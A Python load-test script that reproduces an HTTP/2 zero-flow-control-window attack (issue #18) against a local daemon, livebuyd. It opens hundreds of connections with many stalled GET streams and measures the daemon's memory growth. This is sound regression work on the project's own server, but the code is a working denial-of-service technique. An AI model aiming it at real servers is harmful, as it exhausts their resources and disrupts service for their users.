#!/usr/bin/env python3
"""The zero-window attack of issue #18: CONNECTIONS HTTP/2 connections each open STREAMS streams of GET PATH and never
open their flow-control window (SETTINGS_INITIAL_WINDOW_SIZE 0), so that nothing of the answers can be sent. Prints
livebuyd's RSS before, while the connections hold, and a few seconds after they have gone.

Usage: loadtest/zero-window.py PORT PID [--connections 500] [--streams 100] [--path /metrics] [--hold 5] [--after 5]
Needs Debian's python3-h2."""

import argparse
import socket
import time

import h2.config
import h2.connection
import h2.settings


def rss_mb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return 0.0


def main():
    p = argparse.ArgumentParser()
    p.add_argument("port", type=int)
    p.add_argument("pid", type=int)
    p.add_argument("--connections", type=int, default=500)
    p.add_argument("--streams", type=int, default=100)
    p.add_argument("--path", default="/metrics")
    p.add_argument("--hold", type=float, default=5)
    p.add_argument("--after", type=float, default=5)
    a = p.parse_args()
    start = rss_mb(a.pid)
    socks = []
    for _ in range(a.connections):
        s = socket.create_connection(("127.0.0.1", a.port))
        c = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
        c.local_settings = h2.settings.Settings(client=True, initial_values={
            h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0, h2.settings.SettingCodes.ENABLE_PUSH: 0})
        c.initiate_connection()
        for _ in range(a.streams):
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, [(":method", "GET"), (":path", a.path), (":scheme", "http"),
                                 (":authority", "127.0.0.1")], end_stream=True)
        s.sendall(c.data_to_send())
        socks.append(s)
    time.sleep(a.hold)
    held = rss_mb(a.pid)
    for s in socks:
        s.close()
    time.sleep(a.after)
    after = rss_mb(a.pid)
    print("zero window, %d connections x %d streams of %s: RSS %.1f MB at start, %.1f MB held (+%.1f), %.1f MB %.0f s "
          "after they left (+%.1f)" % (a.connections, a.streams, a.path, start, held, held - start, after, a.after,
                                       after - start))


if __name__ == "__main__":
    main()
